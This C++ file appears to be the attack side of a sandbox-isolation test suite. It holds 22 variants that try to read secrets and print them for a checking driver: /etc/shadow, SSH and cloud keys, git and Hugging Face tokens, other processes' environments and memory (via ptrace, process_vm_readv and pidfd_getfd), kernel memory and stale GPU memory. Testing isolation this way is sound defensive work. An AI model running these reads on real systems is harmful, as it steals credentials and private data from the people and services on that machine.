// Reading what is not for the program: secrets in files, in environments, in memory and in open descriptors.
// Whatever is found goes to standard output, where the driver looks for it.
#include "hostile.h"

#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

extern char** environ;

namespace {

// Every /proc/<pid>/<name>.
[[maybe_unused]] void show_of_all_processes(const char* name) {
  for (int pid = 1; pid < 70000; ++pid) {
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
    show(path);
  }
}

// Mapped memory of a process by its maps and mem files.
[[maybe_unused]] void show_memory_of(const char* pid) {
  char path[64], line[512];
  snprintf(path, sizeof(path), "/proc/%s/maps", pid);
  FILE* maps = fopen(path, "r");
  snprintf(path, sizeof(path), "/proc/%s/mem", pid);
  const int memory = open(path, O_RDONLY);
  while (maps != nullptr && memory >= 0 && fgets(line, sizeof(line), maps) != nullptr) {
    unsigned long start = 0, end = 0;
    if (strstr(line, "rw") == nullptr || sscanf(line, "%lx-%lx", &start, &end) != 2) continue;
    static char bytes[1 << 16];
    for (unsigned long at = start; at < end && at < start + (4 << 20); at += sizeof(bytes)) {
      const ssize_t count = pread(memory, bytes, sizeof(bytes), static_cast<off_t>(at));
      if (count > 0) fwrite(bytes, 1, static_cast<size_t>(count), stdout);
    }
  }
}

}  // namespace

#if TRICK == 1  // the files, by their names
void attack(const World& world) { world.each("--secret", show); }
#elif TRICK == 2   // the files, through links of its own
void attack(const World& world) {
  world.each("--secret", [](const char* path) {
    unlink("link");
    if (symlink(path, "link") == 0) show("link");
    unlink("hard");
    if (link(path, "hard") == 0) show("hard");
  });
}
#elif TRICK == 3   // the files, through the roots and folders of other processes
void attack(const World& world) {
  world.each("--secret", [&](const char* secret) {
    for (const char* process : {"self", "1", "2", world.text("--driver")}) {
      char path[4096];
      for (const char* door : {"root", "cwd/../../../../../../.."}) {
        snprintf(path, sizeof(path), "/proc/%s/%s%s", process, door, secret);
        show(path);
      }
    }
  });
}
#elif TRICK == 4   // its own environment
void attack(const World&) {
  for (char** entry = environ; *entry != nullptr; ++entry) puts(*entry);
  show("/proc/self/environ");
}
#elif TRICK == 5   // the environment of every process
void attack(const World&) { show_of_all_processes("environ"); }
#elif TRICK == 6   // the arguments of every process
void attack(const World& world) {
  show_of_all_processes("cmdline");
  char path[64];
  snprintf(path, sizeof(path), "/proc/%s", world.text("--driver"));
  escaped_if(access(path, F_OK) == 0, "sees the driver's process");
}
#elif TRICK == 7   // every descriptor that was left open
void attack(const World&) {
  for (int fd = 3; fd < 4096; ++fd) {
    char bytes[4096];
    lseek(fd, 0, SEEK_SET);
    const ssize_t count = pread(fd, bytes, sizeof(bytes), 0);
    if (count > 0) fwrite(bytes, 1, static_cast<size_t>(count), stdout);
  }
}
#elif TRICK == 8   // the descriptors of every process
void attack(const World& world) {
  for (int fd = 0; fd < 256; ++fd) {
    for (const char* process : {"1", "2", world.text("--driver")}) {
      char path[64];
      snprintf(path, sizeof(path), "/proc/%s/fd/%d", process, fd);
      show(path);
    }
  }
}
#elif TRICK == 9   // the memory of the driver and of the sandbox's first process
void attack(const World& world) {
  show_memory_of(world.text("--driver"));
  show_memory_of("1");
}
#elif TRICK == 10  // the driver's memory by process_vm_readv
void attack(const World& world) {
  static char bytes[1 << 16];
  for (uintptr_t at = 0x400000; at < 0x800000; at += sizeof(bytes)) {
    const iovec mine = {bytes, sizeof(bytes)}, theirs = {reinterpret_cast<void*>(at), sizeof(bytes)};
    for (pid_t process : {static_cast<pid_t>(world.number("--driver")), getppid(), pid_t{1}}) {
      escaped_if(process > 0 && process_vm_readv(process, &mine, 1, &theirs, 1, 0) > 0,
                 "read another process's memory");
    }
  }
}
#elif TRICK == 11  // the parent by ptrace
void attack(const World& world) {
  for (pid_t process : {static_cast<pid_t>(world.number("--driver")), getppid(), pid_t{1}}) {
    escaped_if(process > 0 && ptrace(PTRACE_ATTACH, process, nullptr, nullptr) == 0,
               "attached to another process");
    escaped_if(process > 0 && ptrace(PTRACE_SEIZE, process, nullptr, nullptr) == 0, "seized another process");
  }
}
#elif TRICK == 12  // descriptors taken out of other processes
void attack(const World& world) {
  for (pid_t process : {static_cast<pid_t>(world.number("--driver")), getppid(), pid_t{1}}) {
    const long handle = syscall(SYS_pidfd_open, process, 0);
    for (int fd = 0; handle >= 0 && fd < 256; ++fd) {
      const long copy = syscall(SYS_pidfd_getfd, handle, fd, 0);
      char bytes[4096];
      const ssize_t count = copy < 0 ? -1 : pread(static_cast<int>(copy), bytes, sizeof(bytes), 0);
      if (count > 0) fwrite(bytes, 1, static_cast<size_t>(count), stdout);
    }
  }
}
#elif TRICK == 13  // everything under the home folders, /tmp and the source tree
void attack(const World& world) {
  world.each("--folder", [](const char* folder) {
    char command[4200];
    snprintf(command, sizeof(command), "cat '%s'/* '%s'/*/* '%s'/.[!.]* 2>/dev/null | head -c 200000", folder,
             folder, folder);
    if (system(command) != 0) fprintf(stderr, "nothing\n");
  });
  if (system("cat /root/.* /home/*/.* /tmp/* /tmp/*/* /var/tmp/* 2>/dev/null | head -c 200000") != 0) return;
}
#elif TRICK == 14  // passwords of the system
void attack(const World&) {
  for (const char* file :
       {"/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/sudoers", "/etc/security/opasswd"})
    show(file);
}
#elif TRICK == 15  // memory of the machine
void attack(const World&) {
  for (const char* file : {"/proc/kcore", "/dev/mem", "/dev/kmem", "/proc/kallsyms", "/dev/port"}) {
    const int memory = open(file, O_RDONLY);
    char bytes[4096];
    const bool read_some = memory >= 0 && pread(memory, bytes, sizeof(bytes), 0x1000) > 0;
    escaped_if(read_some && strcmp(file, "/proc/kallsyms") != 0, file);
  }
}
#elif TRICK == 16  // the stack above its own arguments
void attack(const World& world) {
  const char* at = world.arguments()[0];
  for (int i = 0; i < 100000; ++i) {
    if (syscall(SYS_write, 1, at + i, 1) < 0) return;
  }
}
#elif TRICK == 17  // the places that its mounts come from
void attack(const World& world) {
  FILE* mounts = fopen("/proc/self/mountinfo", "r");
  char line[4096];
  while (mounts != nullptr && fgets(line, sizeof(line), mounts) != nullptr) {
    char root[2048], point[2048];
    if (sscanf(line, "%*s %*s %*s %2047s %2047s", root, point) != 2) continue;
    world.each("--secret", [&](const char* secret) {
      char path[8192];
      snprintf(path, sizeof(path), "%s/..%s", point, secret);
      show(path);
      snprintf(path, sizeof(path), "%s/../%s", root, strrchr(secret, '/') + 1);
      show(path);
    });
  }
}
#elif TRICK == 18  // memory that was used before: fresh allocations of the host
void attack(const World&) {
  for (int i = 0; i < 16; ++i) {
    char* bytes = static_cast<char*>(malloc(4 << 20));
    if (bytes == nullptr) return;
    fwrite(bytes, 1, 1 << 16, stdout);
  }
}
#elif TRICK == 19  // memory of the device that was used before
void attack(const World&) {
  const size_t size = 64 << 20;
  char *device = nullptr, *host = static_cast<char*>(malloc(size));
  if (cudaMalloc(&device, size) != cudaSuccess) return;
  cudaMemcpy(host, device, size, cudaMemcpyDeviceToHost);
  for (size_t i = 0; i < size; ++i) {
    if (host[i] >= ' ' && host[i] < 127) putchar(host[i]);
  }
}
#elif TRICK == 20  // shared memory and queues of others
void attack(const World&) {
  if (system("cat /dev/shm/* /dev/mqueue/* 2>/dev/null; ipcs -a 2>/dev/null; cat /proc/sysvipc/shm") != 0)
    return;
}
#elif TRICK == 21  // other programs' objects and results in the cache
void attack(const World&) {
  char path[4096] = {};
  if (readlink("/proc/self/exe", path, sizeof(path) - 1) < 0) return;
  for (int up = 0; up < 3; ++up) {
    char* slash = strrchr(path, '/');
    if (slash == nullptr || slash == path) return;
    *slash = 0;
    char command[4400];
    snprintf(command, sizeof(command), "cat '%s'/*secret* '%s'/*/*secret* 2>/dev/null", path, path);
    if (system(command) != 0) fprintf(stderr, "nothing there\n");
  }
}
#elif TRICK == 22  // history of shells, keys, tokens in the usual places
void attack(const World&) {
  if (system("cat ~/.bash_history ~/.ssh/* ~/.aws/* ~/.netrc ~/.git-credentials ~/.cache/huggingface/token "
             "/root/.ssh/* "
             "/run/secrets/* /var/run/secrets/*/* 2>/dev/null | head -c 100000") != 0)
    return;
}
#endif
